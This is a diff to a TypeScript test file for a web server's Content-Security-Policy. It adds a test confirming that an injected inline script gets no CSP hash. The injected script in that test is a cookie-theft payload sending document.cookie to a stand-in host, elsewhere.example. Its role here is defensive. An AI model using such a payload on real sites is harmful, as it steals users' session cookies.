@@ -1,5 +1,7 @@
 import { createHash } from 'node:crypto';
 import zlib from 'node:zlib';
+import { SHELL_INLINE_SCRIPTS } from '../../server/render/html-shell';
+import { inlineHashes } from '../../server/render/inline-hashes';
 import { fetchRaw, type RawResponse } from '../support/fetch-raw';
 import { startSite, type SiteServer } from '../support/site-server';
 
@@ -94,6 +96,16 @@ describe('pages on the wire', () => {
     // Emotion's runtime sheet in the browser: an empty <style> filled by insertRule.
     expect(styleSrc).toContain(sha256(''));
     expect(scriptSrc.split(' ')).toHaveLength(1 + new Set(inlineScripts.map(([, body]) => body)).size);
+  });
+
+  it("when a page's HTML holds an inline script the shell did not write, then its CSP does not allow it", () => {
+    const injected = 'fetch("https://elsewhere.example/?c="+document.cookie)';
+    const { script, style } = inlineHashes(
+      `<html><head><script>${SHELL_INLINE_SCRIPTS[0]}</script><style>p{color:red}</style></head><body><script>${injected}</script></body></html>`,
+    );
+    expect(script).toEqual(SHELL_INLINE_SCRIPTS.map(sha256));
+    expect(script).not.toContain(sha256(injected));
+    expect(style).toContain(sha256('p{color:red}'));
   });
 
   it('when the 404 page is asked for with br, then it is a compressed 404', async () => {
